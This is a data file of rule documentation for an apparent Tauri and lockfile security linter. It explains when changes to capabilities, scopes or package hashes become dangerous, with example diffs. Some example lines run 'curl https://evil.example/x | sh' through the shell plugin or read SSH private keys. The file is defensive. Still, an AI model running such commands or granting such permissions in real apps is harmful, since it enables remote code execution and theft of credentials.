  "csp/worker-allowed": "# Workers may be started from somewhere new: `csp/worker-allowed`\n\nSeverity: medium where anything will do; low for `blob:` and `data:`; info for the app's own files.\n\nSince: 0.1.0\n\nA page may start a worker from where it could not.\n\n## Why it matters\n\nA worker runs a script beside the page. From a `blob:` or `data:` URL that script can be any string, so it is a way round a `script-src` without `'unsafe-eval'`.\n\n## What to do\n\nShip the worker as a file. Bundlers make `blob:` workers by default; most have an option for a file.\n\n## When it says nothing\n\n- A worker list that is spelled out after it was inherited from `script-src`.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags workers from blobs\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     \"security\": {\n-      \"csp\": \"default-src 'self'; worker-src 'self'\"\n+      \"csp\": \"default-src 'self'; worker-src 'self' blob:\"\n     }\n   }\n```\n\nPages of the app may newly start workers from `blob:` URLs:\n\n```\nnew Worker(URL.createObjectURL(new Blob([code])))\n```\n\n### It says nothing when the list is spelled out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     \"security\": {\n-      \"csp\": \"default-src 'self'; script-src 'self'\"\n+      \"csp\": \"default-src 'self'; script-src 'self'; worker-src 'self'\"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `worker-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/worker-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)\n",
  "ipc/app-commands-open": '# Every command of the app is open: `ipc/app-commands-open`\n\nSeverity: high; low for an app that is new.\n\nSince: 0.1.0\n\nThe app had permissions of its own, so that its commands needed a capability, and now it declares none: the last file under `permissions/` went, or `build.rs` no longer lists the commands. Every page of the app can then call every command that the app registers. The same is reported where an update or downgrade of Tauri opens the commands to remote pages.\n\n## Why it matters\n\nTauri checks the app\'s own commands only if the app declares permissions. A single permission file anywhere under `permissions/` closes all of them; without it they are all open to every local page in every window, whatever the capabilities say. Before Tauri 2.11.1 they were open to remote pages too.\n\n## What to do\n\nDeclare the commands in `build.rs`, with `AppManifest::new().commands(&["greet"])`, or in files under `permissions/`, and grant each, without a prefix (`allow-greet`), where it is needed. Keep Tauri at 2.11.1 or newer.\n\n## When it says nothing\n\n- The app never declared permissions: the commands were open before. A command that is added to such an app is not reported either.\n- Another permission file is left, though it be for a command that no longer exists: it keeps all of them closed.\n- The version of Tauri is not pinned on one side, so that nobody knows whether sites could call the commands before.\n- One command is granted in a capability. That is [`ipc/command-granted`](../command-granted/README.md).\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags the last permission file that went\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n   "identifier": "main",\n   "windows": ["main"],\n-  "permissions": ["core:default", "allow-greet"]\n+  "permissions": ["core:default"]\n }\n```\n\n`src-tauri/permissions/greet.toml`:\n\n```diff\n-[[permission]]\n-identifier = "allow-greet"\n-commands.allow = ["greet"]\n```\n\nThe app\'s own pages in every window can newly call every command of the app:\n\n```\ninvoke("any_command_of_the_app")\n```\n\n### It says nothing when permissions move to the build script\n\n`src-tauri/build.rs`:\n\n```diff\n+fn main() {\n+    tauri_build::try_build(\n+        tauri_build::Attributes::new()\n+            .app_manifest(tauri_build::AppManifest::new().commands(&["greet"])),\n+    )\n+    .expect("failed to run tauri-build");\n+}\n```\n\n`src-tauri/permissions/greet.toml`:\n\n```diff\n-[[permission]]\n-identifier = "allow-greet"\n-commands.allow = ["greet"]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)\n- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)\n',
  "ipc/command-granted": '# A command is newly callable: `ipc/command-granted`\n\nSeverity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope limits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothing through; one step more for remote pages; at least medium where what the permission grants had to be guessed.\n\nSince: 0.1.0\n\nA capability names a permission that it did not have, and with it pages of the app can call a command that they could not call before. It doesn\'t matter which way the permission came: in a capability file, inline in `tauri.conf.json`, in an overlay for one platform, through a set, or because a whole file became active.\n\n## Why it matters\n\nEach command is a door between the web page and the machine. Whoever gets a script into the page, by a stored message, a compromised package or a hijacked site, can call everything that the page can call, with arguments of their own choice.\n\n## What to do\n\nLook at the example call: would you let a stranger make it? Grant the single permission that the page needs in place of a set, name its paths, URLs or programs in the scope, and list only the windows that use it.\n\n## When it says nothing\n\n- The call was possible before, by any capability: `core:window:allow-title` beside `core:default` adds nothing.\n- A permission is moved, reordered, written as an object, or replaced by the members of its set.\n- The capability is not in force: the list in `app.security.capabilities` leaves it out, or it holds for no window and no webview.\n- Some capability denies the command. A denial holds for every window.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a program with any arguments\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n   "identifier": "main",\n   "windows": ["main"],\n-  "permissions": ["core:default", "shell:allow-open"]\n+  "permissions": [\n+    "core:default",\n+    "shell:allow-open",\n+    {\n+      "identifier": "shell:allow-execute",\n+      "allow": [{ "name": "sh", "cmd": "sh", "args": true }]\n+    }\n+  ]\n }\n```\n\nWindow `main` can newly run programs (`plugin:shell|execute`):\n\n```\ninvoke("plugin:shell|execute", {"program":"sh","args":["-c","curl https://evil.example/x | sh"]})\n```\n\n### It says nothing about a permission that a set had\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n   "identifier": "main",\n   "windows": ["main"],\n-  "permissions": ["core:default"]\n+  "permissions": ["core:default", "core:window:allow-title"]\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n- [Tauri 2: permissions](https://v2.tauri.app/security/permissions/)\n- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)\n',
  "ipc/deny-removed": '# A denial is gone: `ipc/deny-removed`\n\nSeverity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope limits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothing through; one step more for remote pages.\n\nSince: 0.1.0\n\nA permission that denied a command, or a `deny` entry of a scope, is no longer in force, and something else still allows what it held back.\n\n## Why it matters\n\nA denied command (`fs:deny-remove`) is denied in every window, even when the denial stands in a capability for a window that is never opened. So a capability that seems to do nothing can be all that keeps `shell:allow-execute` in another file from working. Before Tauri 2.12 it is denied to every origin too; since then only to the origins that its own capability is for, so that the update alone can let a site call what was denied. A `deny` entry of a scope holds for the pages that get the scope. Either way the removal shows in a diff only as deleted lines.\n\n## What to do\n\nPut the denial back; or take out the permission that allows the call, so that no denial is needed.\n\n## When it says nothing\n\n- Nothing allows the call, so that the denial held nothing back.\n- Another denial of the same command or the same path is still in force.\n- The denial of a command moves to another file, capability or window: it holds there all the same.\n- It held for no page at all, in a capability with `"local": false` and no remote URL.\n- A `deny` entry of a `shell` scope goes: the plugin never looked at it.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a denied path that is taken out\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n     {\n       "identifier": "fs:scope",\n-      "allow": ["$HOME/**"],\n-      "deny": ["$HOME/Keys/**"]\n+      "allow": ["$HOME/**"]\n     }\n   ]\n```\n\nWindow `main` can newly call `plugin:fs|read_text_file`, for example with `/home/user/Keys/folder/notes.txt`: `fs:scope` of the capability `main` no longer denies it:\n\n```\ninvoke("plugin:fs|read_text_file", {"path":"/home/user/Keys/folder/notes.txt"})\n```\n\n### It says nothing when a wider denial takes its place\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n       "identifier": "fs:scope",\n       "allow": ["$HOME/**"],\n-      "deny": ["$HOME/Keys/**"]\n+      "deny": ["$HOME/**"]\n     }\n   ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: permissions](https://v2.tauri.app/security/permissions/)\n- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)\n- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)\n',
  "ipc/meaning-changed": '# The same permission came to mean more: `ipc/meaning-changed`\n\nSeverity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope limits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothing through; one step more for remote pages.\n\nSince: 0.1.0\n\nThe capability names the same permission as before, and that permission now stands for more commands, or brings a wider scope: the plugin has another version in `Cargo.lock`, or a permission or set in a file under `permissions/` was edited, the app\'s own or that of a plugin in the repository.\n\n## Why it matters\n\nA permission such as `fs:allow-write-file` or `core:default` is a name, and the plugin\'s release decides what it stands for. From fs 2.0.3 to 2.1.0 `fs:allow-write-file` came to include `open` and `write`. Such an update changes what pages may do without touching one line of a capability.\n\n## What to do\n\nIf the app needs the new commands, nothing. If not, name single permissions in place of a set, deny the new command, or keep the version.\n\n## When it says nothing\n\n- The update leaves the permission as it was, which is the rule: most releases change none.\n- A scope entry is written into a permission file. It has a line of its own, and is [`ipc/scope-widened`](../scope-widened/README.md).\n- The new command was callable before by some other permission.\n- The permissions of the version are not known. Those of the nearest version known are used, and a gap says so.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags an update that makes a permission mean more\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-plugin-fs"\n-version = "2.0.3"\n+version = "2.1.0"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "d4b659bec8b2be7fa6a0579de2fd8886c83208ac11a8fa2fd1786a07345bebd6"\n+checksum = "82b37e23467d90bbfc85c5d12e4bd36895b70f931bcdc48e61312f5423e9f5ab"\n```\n\n`fs:allow-write-file` came to mean more: window `main` can newly use `plugin:fs|open` and 1 more command, for example with `/home/user/.local/share/com.example.notes/folder/notes.txt`:\n\n```\ninvoke("plugin:fs|open", {"path":"/home/user/.local/share/com.example.notes/folder/notes.txt"})\n```\n\n### It says nothing when an update takes away\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-plugin-dialog"\n-version = "2.6.0"\n+version = "2.7.0"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "7eb9f699f202d2add14444591b83b6fabecf333740cf8d595d53c85a3966a46d"\n+checksum = "78e241bbc9a17a0494b3cd8d24a59dd0674d6c13f057322b5c06d524efaef39e"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: permissions](https://v2.tauri.app/security/permissions/)\n- [Tauri 2: permissions of plugins](https://v2.tauri.app/learn/security/using-plugin-permissions/)\n- [Tauri 2: writing permissions for a plugin](https://v2.tauri.app/learn/security/writing-plugin-permissions/)\n',
  "ipc/platform-added": '# A permission holds on more platforms: `ipc/platform-added`\n\nSeverity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope limits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothing through; one step more for remote pages.\n\nSince: 0.1.0\n\nA capability, or a single permission in it, was part of the app on some platforms and is now part of it on others too: a name was added to `platforms`, the list went, or the configuration of one platform (`tauri.windows.conf.json`) came to enable it.\n\n## Why it matters\n\nWhat is harmless on one system may not be on another: `$HOME/**` leaves out names that begin with a dot on Linux and macOS and includes them on Windows. And a capability without `platforms` holds on all five, phones included.\n\n## What to do\n\nList under `platforms` those on which the app uses it. Mind the spelling, `linux`, `macOS`, `windows`, `android` and `iOS`.\n\n## When it says nothing\n\n- All five are listed in place of no list, or the other way round.\n- Other capabilities allow the same there already.\n- The capability is new as well. That is [`ipc/command-granted`](../command-granted/README.md), with its platforms.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags one more platform\n\n`src-tauri/capabilities/desktop.json`:\n\n```diff\n   "identifier": "desktop",\n   "windows": ["main"],\n-  "platforms": ["linux", "macOS"],\n+  "platforms": ["linux", "macOS", "windows"],\n   "permissions": [\n     {\n```\n\nWindow `main` can newly run programs (`plugin:shell|execute`) on Windows:\n\n```\ninvoke("plugin:shell|execute", {"program":"sh","args":["-c","curl https://evil.example/x | sh"]})\n```\n\n### It says nothing when all five are listed\n\n`src-tauri/capabilities/desktop.json`:\n\n```diff\n   "identifier": "desktop",\n   "windows": ["main"],\n+  "platforms": ["linux", "macOS", "windows", "android", "iOS"],\n   "permissions": [\n     {\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)\n- [Tauri 2: fields of a capability](https://v2.tauri.app/reference/acl/capability/)\n',
  "ipc/remote-origin-granted": '# A remote page may call the app: `ipc/remote-origin-granted`\n\nSeverity: critical for programs, for files such as keys and cookies, and for transfers that no scope limits; high for other files, requests to any host or local port, the clipboard, stored data and new windows; medium for requests to named hosts and for the rest; low while the scope lets nothing through.\n\nSince: 0.1.0\n\nA capability that the app had came to name a remote URL, or a wider pattern, in `remote.urls`: pages of that site, shown in the windows of the capability, can call what it grants.\n\n## Why it matters\n\nThe content of a remote page is decided by whoever runs the site, its CDN and its ad networks at the moment it is loaded, not by the app\'s release. URL patterns also reach further than they read: `https://*example.com` includes `https://evilexample.com`, `https://example.*` includes `https://example.evil.com`, `*` crosses dots, and a path in the pattern is no boundary, since the app is mostly told the origin alone.\n\n## What to do\n\nName the one origin with its scheme and host, in a capability of its own with only the commands that this site calls. Better still, show the site in the system\'s browser.\n\n## When it says nothing\n\n- The new pattern matches the same URLs: `https://a.com`, `https://a.com/` and `https://a.com/*`.\n- The site had the same calls through another capability.\n- A whole capability for the site is new. That is [`ipc/command-granted`](../command-granted/README.md), and its severity takes the remote page into account.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags another site\n\n`src-tauri/capabilities/site.json`:\n\n```diff\n   "local": false,\n   "remote": {\n-    "urls": ["https://app.example.com"]\n+    "urls": ["https://app.example.com", "https://example.cdn.test"]\n   },\n   "permissions": [\n```\n\nPages of `https://example.cdn.test` in window `site` can newly send requests past the browser\'s rules (`plugin:http|fetch`) and call 7 more commands:\n\n```\ninvoke("plugin:http|fetch", {"clientConfig":{"method":"GET","url":"https://api.example.com/"}})\n```\n\n### It says nothing about another spelling of the site\n\n`src-tauri/capabilities/site.json`:\n\n```diff\n   "local": false,\n   "remote": {\n-    "urls": ["https://app.example.com"]\n+    "urls": ["https://app.example.com:443/*", "https://app.example.com/"]\n   },\n   "permissions": [\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n- [Tauri 2: fields of a capability](https://v2.tauri.app/reference/acl/capability/)\n- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)\n- [CVE-2026-42184: a website was taken for the app itself](https://github.com/advisories/GHSA-7gmj-67g7-phm9)\n',
  "ipc/scope-widened": '# A scope lets more through: `ipc/scope-widened`\n\nSeverity: critical where a program can be run with any arguments; high for other programs, and for files such as keys and cookies; medium for other files, and for any host, local port or link; low for named hosts; one step more for remote pages.\n\nSince: 0.1.0\n\nA command could be called before, and its scope (paths of `fs`, URLs of `http`, programs of `shell`, links and paths of `opener`) now accepts something that it refused. Toril doesn\'t compare the text of the entries: it decides whether there is any path, URL or command line that only the new scope accepts, and shows one.\n\n## Why it matters\n\nThe scope is all that stands between "reads its own notes" and "reads `~/.ssh`". Its rules surprise people. `fs:scope` and the sets `fs:allow-home-read` and their kin grow the scope of every window that may use any `fs` command, not of the window that was granted them. `$HOME/**` leaves out names that begin with a dot, so `$HOME/.ssh/*` beside it is new. A validator `a|b` accepts everything that begins with `a` or ends with `b`. The URL pattern `https://*example.com` includes `https://evilexample.com`, and the link `https://*.example.com/*` of the opener includes `https://evil.example/?.example.com/`.\n\n## What to do\n\nNarrow the entry at the line to the folder, host or arguments that the app needs. To keep a path to one window, write it in the object form of a permission with commands, such as `fs:allow-read-file`, and not in `fs:scope`.\n\n## When it says nothing\n\n- The new entry is covered by an old one: `$DOCUMENT/reports/*` beside `$DOCUMENT/**`, `https://a.com/*` for `https://a.com`.\n- The entry can match nothing: `$APP/**` is a folder of that name in Tauri 2.\n- A denial is added. (A denial that goes is [`ipc/deny-removed`](../deny-removed/README.md).)\n- The bundle\'s identifier changes: the same `$APPDATA` is then another folder.\n- The entry holds a pattern that can\'t be compared. That is a gap, not a finding.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a folder that begins with a dot\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n     {\n       "identifier": "fs:scope",\n-      "allow": ["$HOME/**"]\n+      "allow": ["$HOME/**", "$HOME/.ssh/*"]\n     }\n   ]\n```\n\nWindow `main` can newly read files: `$HOME/.ssh/*` (`plugin:fs|read_text_file`) on Linux, macOS, Android and iOS:\n\n```\ninvoke("plugin:fs|read_text_file", {"path":"/home/user/.ssh/id_ed25519"})\n```\n\n### It says nothing about a folder inside a covered one\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n     {\n       "identifier": "fs:scope",\n-      "allow": ["$DOCUMENT/**"]\n+      "allow": ["$DOCUMENT/**", "$DOCUMENT/reports/*"]\n     }\n   ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)\n- [CVE-2022-46171: patterns of scopes matched too much](https://github.com/advisories/GHSA-6mv3-wm7j-h4w5)\n- [CVE-2023-34460: scopes matched names that begin with a dot](https://github.com/advisories/GHSA-wmff-grcw-jcfm)\n- [CVE-2025-31477: the shell plugin opened links of any scheme](https://github.com/advisories/GHSA-c9pr-q8gx-3mgp)\n',
  "ipc/window-added": '# A capability holds for more windows: `ipc/window-added`\n\nSeverity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope limits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothing through; one step more for remote pages.\n\nSince: 0.1.0\n\nA capability that the app had is now in force for windows or webviews that it did not hold for: a label or a wider pattern in `windows` or `webviews`; or for the app\'s own pages where only a remote site had it, because `"local": false` went.\n\n## Why it matters\n\nWindows are the compartments of an app: the one that shows other people\'s content gets few commands, the settings get many. A pattern such as `*` or `tool-*` holds for every window that is ever given such a label, also by code written later, and a page that can create windows picks the label itself. `webviews` never narrows `windows`: either of the two is enough.\n\n## What to do\n\nName the windows that need it. Where they need only some of it, give them a capability of their own.\n\n## When it says nothing\n\n- The new pattern matches no label that the old ones did not: `main` beside `*`.\n- `"webviews": ["main"]` is added beside `"windows": ["main"]`: the webview of an ordinary window has the window\'s label.\n- Another capability gives those windows the same.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags another window\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n {\n   "identifier": "main",\n-  "windows": ["main"],\n+  "windows": ["main", "preview"],\n   "permissions": [\n     "core:default",\n```\n\nWindow `preview` can newly change files (`plugin:fs|write_text_file`) and call 92 more commands:\n\n```\ninvoke("plugin:fs|write_text_file", {"path":"/home/user/Documents/folder/notes.txt"})\n```\n\n### It says nothing about patterns inside a wider one\n\n`src-tauri/capabilities/tools.json`:\n\n```diff\n {\n   "identifier": "tools",\n-  "windows": ["*"],\n+  "windows": ["*", "main", "settings-*"],\n   "permissions": ["process:default"]\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n- [Tauri 2: fields of a capability](https://v2.tauri.app/reference/acl/capability/)\n',
  "packages/bytes-unpublished": '# A lockfile pins bytes that the registry doesn\'t serve: `packages/bytes-unpublished`\n\nSeverity: critical.\n\nSince: 0.1.0\n\nThe registry\'s own archive of a newly locked release has another hash than the lockfile names.\n\n## Why it matters\n\nThe hash in a lockfile says which bytes a build may take. If it isn\'t that of the published archive, a build either stops, or takes something else from where it finds it: a poisoned cache, a mirror, a proxy that answers as the registry. In some 2,900 commits to lockfiles of public projects no such hash was ever seen.\n\n## What to do\n\nLet the package manager write the entry anew, and compare the hash with the registry\'s. If they still differ, ask the registry.\n\n## When it says nothing\n\n- The hash is the published one.\n- The registry doesn\'t answer: then nobody knows, which is said.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a hash that the registry doesn\'t have\n\n`package-lock.json`:\n\n```diff\n     "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },\n     "node_modules/left": {\n-      "version": "1.0.0",\n-      "integrity": "sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="\n+      "version": "1.0.1",\n+      "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="\n     }\n   }\n```\n\nThe lockfile pins `left 1.0.1` to other bytes than the npm registry serves:\n\n```\nnpm ci  # takes left 1.0.1\n```\n\n### It says nothing when the hash is the published one\n\n`package-lock.json`:\n\n```diff\n     "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },\n     "node_modules/left": {\n-      "version": "1.0.0",\n-      "integrity": "sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="\n+      "version": "1.0.1",\n+      "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)\n- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)\n',
  "packages/checksum-changed": '# The same version is other bytes: `packages/checksum-changed`\n\nSeverity: critical; high where an npm hash is left out.\n\nSince: 0.1.0\n\nThe lockfile pins a version that base has too, from the same source, to another hash, or to none.\n\n## Why it matters\n\nRegistries never change what a version is. In 1,720 commits to real Cargo.lock files and 1,148 to pnpm lockfiles not one changed the hash of a version. A hash that differs means that the lockfile was edited, or that one of the two was never what the registry served. A hash that is missing means that nobody checks: cargo repairs such a lockfile silently unless it runs with `--locked`.\n\n## What to do\n\nRestore the line from base. Then find out who wrote the other one: the author\'s machine or its registry may answer with other packages than yours.\n\n## When it says nothing\n\n- A hash of another, stronger kind takes the place of one. Nobody can tell whether it names the same bytes, so that is a gap.\n- A lockfile changes its format, and the hashes move.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags other bytes for the same version\n\n`src-tauri/Cargo.lock`:\n\n```diff\n version = "0.3.9"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "cce0e307a2a0f8509ec21a1066f06de7ddba3d74b19513fa2f302a1c707c590c"\n+checksum = "d144f3e1222e5e411774f6dbac92789a5c54b1c173fb8a0d5a02adb098f7dda8"\n\n [[package]]\n```\n\nThe lockfile names other bytes for the same version of `arrayref 0.3.9`:\n\n```\ncargo fetch  # takes arrayref 0.3.9 with hash d144f3e1222e5e411774f6dbac92789a5c54b1c173fb8a0d5a02adb098f7dda8\n```\n\n### It says nothing when the version moves too\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "arrayref"\n-version = "0.3.8"\n+version = "0.3.9"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "501da63fa8090c8cf2f1b8a0aa9dccb23c180dc105d0b10658c16c7af9824ff6"\n+checksum = "cce0e307a2a0f8509ec21a1066f06de7ddba3d74b19513fa2f302a1c707c590c"\n\n [[package]]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)\n- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)\n- [CWE-494: download of code without integrity check](https://cwe.mitre.org/data/definitions/494.html)\n',
  "packages/install-guard-removed": "# A guard over packages is gone: `packages/install-guard-removed`\n\nSeverity: medium.\n\nSince: 0.1.0\n\nA setting goes, or is turned off, that kept something from being installed or run: `ignore-scripts`, a least age of releases, checks of certificates, of hashes, or of where packages may come from. Or a policy of cargo-deny makes a check no more: of build scripts, of executables, or of banned crates.\n\n## Why it matters\n\nSuch guards stop whole classes of attacks: a release that is hours old was mostly not looked at by anyone, and a package from a repository or an address has no registry that could take it back. Without the guard, the next update may bring what it was there to stop, and no further change of a setting shows it.\n\n## What to do\n\nPut it back, or narrow the exception to the one package that needs it.\n\n## When it says nothing\n\n- The guard moves to another file.\n- A guard is new.\n- A policy of cargo-deny checks licenses, advisories or sources otherwise: that isn't read.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a least age that goes\n\n`pnpm-workspace.yaml`:\n\n```diff\n-minimumReleaseAge: 4320\n strictDepBuilds: true\n```\n\nInstalling packages is no longer held back by `minimumReleaseAge: 4320`:\n\n```\npnpm install  # no longer held back by minimumReleaseAge: 4320\n```\n\n### It says nothing when releases have to be older\n\n`pnpm-workspace.yaml`:\n\n```diff\n-minimumReleaseAge: 4320\n+minimumReleaseAge: 10080\n strictDepBuilds: true\n```\n\n<!-- end examples -->\n\n## References\n\n- [pnpm: settings](https://pnpm.io/settings)\n- [npm: config](https://docs.npmjs.com/cli/v11/using-npm/config)\n- [cargo-deny: bans](https://embarkstudios.github.io/cargo-deny/checks/bans/cfg.html)\n- [Yarn: settings](https://yarnpkg.com/configuration/yarnrc)\n",
  "packages/links-added": '# A crate newly links a native library: `packages/links-added`\n\nSeverity: low.\n\nSince: 0.1.0\n\nA newer version of a crate claims a native library (`links` in its `Cargo.toml`) and no version in base claims any. What the library is called changes from version to version, and means nothing.\n\n## Why it matters\n\nNative code is outside of everything that Rust checks, and depending on the crate\'s build script it is compiled from the archive, downloaded, or taken from the machine that builds.\n\n## What to do\n\nFind out in the build script where the library comes from, and that you want it from there.\n\n## When it says nothing\n\n- The crate is new: its build script is told, and the library with it.\n- A version in base claims a library too, under whatever name.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags an update that claims a native library\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "rayon-core"\n-version = "1.8.0"\n+version = "1.8.1"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "b086855acda9a0fb79e033a5101e3899c4bc8210ddb831c224e707fb894dda46"\n+checksum = "3e4713985d01bec117ea1ec817bc1e9dc0ffa4b54046befe1fa966e611414a9c"\n\n [[package]]\n```\n\n`rayon-core 1.8.1` newly links the native library `rayon-core`:\n\n```\ncargo fetch  # takes rayon-core 1.8.1\n```\n\n### It says nothing when it claimed the library before\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "rayon-core"\n-version = "1.8.0"\n+version = "1.8.1"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "b086855acda9a0fb79e033a5101e3899c4bc8210ddb831c224e707fb894dda46"\n+checksum = "3e4713985d01bec117ea1ec817bc1e9dc0ffa4b54046befe1fa966e611414a9c"\n\n [[package]]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: the `links` key](https://doc.rust-lang.org/cargo/reference/build-scripts.html#the-links-manifest-key)\n- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)\n',
  "packages/lockfile-ambiguous": '# A lockfile pins other packages than it shows: `packages/lockfile-ambiguous`\n\nSeverity: critical.\n\nSince: 0.1.0\n\nA JSON lockfile has a key twice in one object, or a Cargo.lock holds crates that its lines don\'t show as cargo writes them.\n\n## Why it matters\n\nA lockfile is reviewed by its lines, if at all. JSON parsers differ in which of two equal keys counts: npm takes the last one. TOML has inline tables, quoted keys and texts of several lines that may hold what looks like an entry; cargo reads them all, even with `--locked`. So a file can show one package and pin another.\n\n## What to do\n\nThrow the file away, let the package manager write it anew, and compare what it then pins with base.\n\n## When it says nothing\n\n- Comments, other line ends, another order.\n- The file is the same as at base.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a package that stands twice\n\n`package-lock.json`:\n\n```diff\n       "version": "1.0.0",\n       "integrity": "sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="\n+    },\n+    "node_modules/left": {\n+      "version": "1.0.0",\n+      "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="\n     }\n   }\n```\n\n`package-lock.json` doesn\'t pin what it shows: `node_modules/left` stands twice in one object:\n\n```\nnpm ci  # takes other packages from package-lock.json than its lines show\n```\n\n### It says nothing when a key only looks alike\n\n`package-lock.json`:\n\n```diff\n     "node_modules/left": {\n       "version": "1.0.0",\n+      "license": "MIT",\n       "integrity": 